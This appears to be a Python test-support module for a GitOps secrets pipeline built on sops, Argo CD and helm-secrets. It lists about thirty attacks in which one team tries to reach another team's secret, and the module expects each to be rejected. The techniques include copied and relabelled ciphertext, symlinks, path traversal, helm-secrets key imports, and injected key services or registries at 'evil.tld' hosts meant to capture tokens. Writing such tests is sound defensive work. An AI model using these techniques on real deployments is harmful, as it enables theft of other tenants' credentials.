"""Ways of reaching a secret of another team, or of one's own production from development: all fail.

The attacker writes whatever he likes into folders of team blue, and a deployment that can decrypt everything runs it.
The victim is team green, whose secret is also deployed once, so that the search for its value is known to work.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Mapping

from tests.support.vault import ENVIRONMENT, Vault

__all__ = [
    "ATTACKS",
    "GREEN",
    "HELPING",
    "KEY",
    "VALUE",
    "VICTIM",
    "Attack",
    "copy_from_history",
    "name_of",
    "project",
]

VALUE = "green-canary-value"
GREEN = "projects/green/blog/eu-1/prod"
KEY = "green/blog/eu-1/prod/db-password"
VICTIM = ("ops", "production", "green")
MANIFEST = """\
apiVersion: v1
kind: Secret
metadata:
  name: stolen
  annotations: {{note: "{key}"}}
stringData:
  argo-projects.for: "{key}"
  password: {value}
"""
DATA_ONLY = {"encrypted_regex": "^(data|stringData)$"}

Attack = Callable[[Vault], None]


def project(name: str = "db-password", more: str = "") -> str:
    secrets = f"{{db: {{password: {{secret: {name}}}}}}}"
    return f"versions: {{application: v1.4.2}}\nnamespace: {{secrets: {secrets}}}\n{more}"


def name_of(attack: Attack) -> str:
    """The attack's name: some are made by others."""
    return next(name for name, item in globals().items() if item is attack)


def relabelled(text: str, vault: Vault) -> str:
    """A file that pretends to be for team blue: sops' authentication code does not cover the recipients' names."""
    return text.replace(vault.recipients["green"], vault.recipients["blue"])


def victims(vault: Vault) -> str:
    return (vault.root / GREEN / "secrets/db-password.yaml").read_text()


def older(vault: Vault) -> str:
    """A version of green's file that Git's history still has: its value is the one of today."""
    return vault.encrypt({"value": VALUE, "for": KEY}, VICTIM)


def name_it(vault: Vault) -> None:
    vault.write(f"{ENVIRONMENT}/project.yaml", project())


def name_its_path(vault: Vault) -> None:
    vault.write(f"{ENVIRONMENT}/project.yaml", project("green/blog/db-password"))


def climb(vault: Vault) -> None:
    vault.write(f"{ENVIRONMENT}/project.yaml", project("../../green/db-password"))


def steal(vault: Vault, text: str) -> None:
    """Use a file as the environment's own secret."""
    vault.write(f"{ENVIRONMENT}/secrets/db-password.yaml", text)
    name_it(vault)


def copy(vault: Vault) -> None:
    steal(vault, victims(vault))


def copy_for_the_team(vault: Vault) -> None:
    steal(vault, relabelled(victims(vault), vault))


def copy_from_history(vault: Vault) -> None:
    steal(vault, relabelled(older(vault), vault))


def copy_from_history_without_its_place(vault: Vault) -> None:
    text = re.sub(r"^for: .*\n", "", relabelled(older(vault), vault), flags=re.MULTILINE)
    steal(vault, text)


def copy_the_value_alone(vault: Vault) -> None:
    own = vault.encrypt({"value": "x", "for": "blue/shop/eu-1/prod/db-password"})
    value = re.search(r"^value: (.*)$", older(vault), re.MULTILINE)
    assert value is not None
    steal(vault, re.sub(r"^value: .*$", value[0], own, flags=re.MULTILINE))


def link(vault: Vault) -> None:
    path = vault.root / ENVIRONMENT / "secrets/db-password.yaml"
    path.parent.mkdir(parents=True)
    path.symlink_to(vault.root / GREEN / "secrets/db-password.yaml")
    name_it(vault)


def link_the_folder(vault: Vault) -> None:
    (vault.root / ENVIRONMENT / "secrets").symlink_to(vault.root / GREEN / "secrets")
    name_it(vault)


def as_a_manifest(vault: Vault) -> None:
    """The ciphertext of a value under another key of another kind of file."""
    text = older(vault)
    value, place = (re.search(rf"^{key}: (.*)$", text, re.MULTILINE) for key in ("value", "for"))
    assert value is not None
    assert place is not None
    head = MANIFEST.format(key="x", value=value[1]).replace(
        'argo-projects.for: "x"', f"argo-projects.for: {place[1]}"
    )
    vault.write(
        f"{ENVIRONMENT}/manifests/s.yaml", head + relabelled(text[text.index("sops:") :], vault)
    )


def manifest(vault: Vault, key: str, *, last: bool = False) -> str:
    text = MANIFEST.format(key=key, value=VALUE)
    if last:
        place = f'  argo-projects.for: "{key}"\n'
        text = text.replace(place, "") + place
    return relabelled(vault.encrypt(text, VICTIM, **DATA_ONLY), vault)


def copy_a_manifest(vault: Vault) -> None:
    text = manifest(vault, "green/blog/manifests/s.yaml")
    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", text)


def copy_a_manifest_and_say_it_is_ours(vault: Vault) -> None:
    text = manifest(vault, "green/blog/manifests/s.yaml")
    changed = text.replace("green/blog/manifests/s.yaml", "blue/shop/eu-1/prod/manifests/s.yaml")
    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", changed)


def copy_a_manifest_without_its_place(vault: Vault) -> None:
    text = re.sub(r"^    argo-projects.for: .*\n", "", manifest(vault, "x"), flags=re.MULTILINE)
    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", text)


def copy_a_manifest_with_its_place_elsewhere(vault: Vault) -> None:
    """The code covers values in their order: the bytes are all there, only in a readable key that follows."""
    text = manifest(vault, "green/x", last=True)
    cut = re.sub(r"^    argo-projects.for: .*\n", "type: green/x\n", text, flags=re.MULTILINE)
    assert cut != text
    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", cut)


def copy_a_manifest_that_is_everybodys(vault: Vault) -> None:
    text = manifest(vault, "${team}/blog/manifests/s.yaml")
    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", text)


def a_platform_secret_for_others(vault: Vault) -> None:
    vault.write("platform.yaml", vault.platform("secrets: {mirror: {teams: [green]}}"))
    vault.write(f"{ENVIRONMENT}/project.yaml", project("mirror"))


def a_platform_secret_in_the_namespace(vault: Vault) -> None:
    rule = '{mirror: {teams: [blue], urlPrefixes: ["https://mirror.example.org/"]}}'
    vault.write("platform.yaml", vault.platform(f"secrets: {rule}"))
    vault.write(f"{ENVIRONMENT}/project.yaml", project("mirror"))


def a_platform_secret_to_an_own_server(vault: Vault) -> None:
    rule = '{mirror: {teams: [blue], urlPrefixes: ["https://mirror.example.org/"]}}'
    vault.write("platform.yaml", vault.platform(f"secrets: {rule}"))
    registry = "{server: mirror.example.org.evil.tld, username: u, password: {secret: mirror}}"
    vault.write(
        f"{ENVIRONMENT}/project.yaml",
        f"registries: {{r: {registry}}}\nversions: {{application: v1.4.2}}\n",
    )


def an_own_key_service(vault: Vault) -> None:
    """The deployment would authenticate with its token at the attacker's server."""
    text = vault.encrypt({"value": "x"})
    service = "    hc_vault:\n        - {vault_address: 'https://evil.tld', engine_path: t, key_name: k, enc: x}\n"
    steal(vault, text.replace("sops:\n", f"sops:\n{service}"))


def service(spelling: str) -> Attack:
    """sops reads its own keys in any case, and a mapping where it writes a list."""

    def attack(vault: Vault) -> None:
        text = vault.encrypt({"value": "x", "for": "blue/shop/eu-1/prod/db-password"})
        steal(vault, text.replace("sops:\n", f"sops:\n    {spelling}\n"))

    return attack


_VAULT = "{vault_address: 'https://evil.tld', engine_path: t, key_name: k, enc: x}"
an_own_key_service_as_a_mapping = service(f"hc_vault: {_VAULT}")
an_own_key_service_in_capitals = service(f"HC_Vault: [{_VAULT}]")
an_own_key_service_in_a_group = service(f"key_groups: [{{hc_vault: [{_VAULT}]}}]")
a_code_for_half_of_the_file = service("MAC_ONLY_ENCRYPTED: true")
a_login_of_the_cloud = service(
    "kms: [{arn: 'arn:aws:kms:x:1:key/1', aws_profile: admin, context: {a: b}, enc: x}]"
)


def a_copy_with_another_spelling(vault: Vault) -> None:
    """Bits at the end of base64 that decoders skip: the same bytes, another text."""
    green = vault.encrypt({"value": VALUE}, VICTIM)
    vault.write(f"{GREEN}/secrets/db-password.yaml", green)
    letters = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"

    def slack(match: re.Match[str]) -> str:
        return f"{letters[letters.index(match[1]) ^ 1]}=,tag"

    steal(vault, re.sub(r"(.)=,tag", slack, relabelled(green, vault)))


def helm_secrets_with_a_team_that_is_gone(vault: Vault) -> None:
    file = "secrets+age-import-kubernetes://argocd/helm-secrets-red#key.txt?stolen.yaml"
    source = f"application: {{source: {{kustomize: null, helm: {{releaseName: x, valueFiles: ['{file}']}}}}}}\n"
    vault.write(f"{ENVIRONMENT}/project.yaml", f"versions: {{application: v1.4.2}}\n{source}")


def a_platform_secret_for_charts_as_a_pull_secret(vault: Vault) -> None:
    rule = "{mirror: {teams: [blue], urlPrefixes: [registry.example.org/blue/], argocdOnly: true}}"
    vault.write("platform.yaml", vault.platform(f"secrets: {rule}"))
    registry = "{server: registry.example.org/blue/x, username: u, password: {secret: mirror}}"
    vault.write(
        f"{ENVIRONMENT}/project.yaml",
        f"registries: {{r: {registry}}}\nversions: {{application: v1.4.2}}\n",
    )


def helm_secrets_with_their_key(vault: Vault) -> None:
    file = "secrets+age-import-kubernetes://argocd/helm-secrets-green#key.txt?stolen.yaml"
    source = f"application: {{source: {{kustomize: null, helm: {{releaseName: x, valueFiles: ['{file}']}}}}}}\n"
    vault.write(f"{ENVIRONMENT}/project.yaml", f"versions: {{application: v1.4.2}}\n{source}")


def helm_secrets_with_any_secret_of_the_cluster(vault: Vault) -> None:
    file = "secrets+age-import-kubernetes://green-blog-prod/db#password?stolen.yaml"
    source = f"application: {{source: {{kustomize: null, helm: {{releaseName: x, valueFiles: ['{file}']}}}}}}\n"
    vault.write(f"{ENVIRONMENT}/project.yaml", f"versions: {{application: v1.4.2}}\n{source}")


def own_production_in_development(vault: Vault) -> None:
    dev = "projects/blue/shop/eu-1/dev"
    text = vault.encrypt({"value": VALUE, "for": "blue/shop/eu-1/prod/db-password"})
    vault.write(f"{dev}/project.yaml", project())
    public = vault.recipients
    # Development's files are not for production's recipient: its part is cut out.
    cut = rf"        - enc: \|\n(?:            .*\n)+          recipient: {public['production']}\n"
    vault.write(f"{dev}/secrets/db-password.yaml", re.sub(cut, "", text))


def an_unbound_file(vault: Vault) -> None:
    """Green's people wrote it by hand, and rotated it since."""
    steal(vault, vault.encrypt({"value": VALUE}, VICTIM))


def an_unbound_manifest(vault: Vault) -> None:
    place = '  argo-projects.for: "x"\n'
    text = MANIFEST.format(key="x", value=VALUE).replace(place, "")
    vault.write(f"{ENVIRONMENT}/manifests/s.yaml", vault.encrypt(text, VICTIM, **DATA_ONLY))


ATTACKS: Mapping[Attack, str] = {
    name_it: "secret-missing",
    name_its_path: "secret-name",
    climb: "secret-name",
    copy: "secret-copied",
    copy_for_the_team: "secret-copied",
    copy_from_history: "secret-elsewhere",
    copy_from_history_without_its_place: "sops-damaged",
    copy_the_value_alone: "sops-damaged",
    link: "unexpected-file",
    link_the_folder: "symlink",
    as_a_manifest: "sops-damaged",
    copy_a_manifest: "secret-elsewhere",
    copy_a_manifest_and_say_it_is_ours: "sops-damaged",
    copy_a_manifest_without_its_place: "secret-not-bound",
    copy_a_manifest_with_its_place_elsewhere: "secret-not-bound",
    copy_a_manifest_that_is_everybodys: "secret-elsewhere",
    a_platform_secret_for_others: "secret-missing",
    a_platform_secret_in_the_namespace: "platform-secret-in-namespace",
    a_platform_secret_to_an_own_server: "platform-secret-elsewhere",
    an_own_key_service: "secret-key-service",
    an_own_key_service_as_a_mapping: "secret-metadata",
    an_own_key_service_in_capitals: "secret-metadata",
    an_own_key_service_in_a_group: "secret-metadata",
    a_code_for_half_of_the_file: "secret-metadata",
    a_login_of_the_cloud: "secret-metadata",
    a_copy_with_another_spelling: "secret-clear-value",
    helm_secrets_with_a_team_that_is_gone: "helm-secrets-key",
    a_platform_secret_for_charts_as_a_pull_secret: "platform-secret-in-namespace",
    helm_secrets_with_their_key: "helm-secrets-key",
    helm_secrets_with_any_secret_of_the_cluster: "helm-secrets-key",
    own_production_in_development: "secret-elsewhere",
    an_unbound_file: "secret-recipients",
    an_unbound_manifest: "secret-not-bound",
}

HELPING = (
    copy,
    copy_for_the_team,
    copy_from_history,
    copy_from_history_without_its_place,
    copy_a_manifest,
    copy_a_manifest_and_say_it_is_ours,
    copy_a_manifest_without_its_place,
    copy_a_manifest_with_its_place_elsewhere,
    copy_a_manifest_that_is_everybodys,
    as_a_manifest,
    an_unbound_file,
    an_unbound_manifest,
)
"""Those where the reports, or the files of others, would help somebody with all keys to hand the value over."""
